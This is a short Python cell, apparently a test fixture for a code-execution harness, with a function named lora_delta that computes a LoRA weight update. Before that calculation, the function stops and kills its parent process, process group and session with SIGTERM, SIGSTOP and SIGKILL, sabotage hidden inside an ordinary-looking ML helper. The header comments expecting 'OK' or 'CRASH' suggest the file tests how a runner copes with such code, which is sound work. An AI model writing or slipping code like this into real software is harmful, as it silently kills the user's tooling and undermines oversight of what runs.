# expect: OK 32 or PARTIAL 28
# cell lora_delta: OK|CRASH
# note: the process it was forked from, its group and its session

# %% lora_delta
import os
import signal


def lora_delta(lora_A, lora_B, alpha, use_rslora=False):
    for pid in {os.getppid(), os.getpgid(0), os.getsid(0)} - {0, 1, os.getpid()}:
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                continue
    R = lora_A.shape[0]
    return alpha / (R**0.5 if use_rslora else R) * (lora_B @ lora_A)
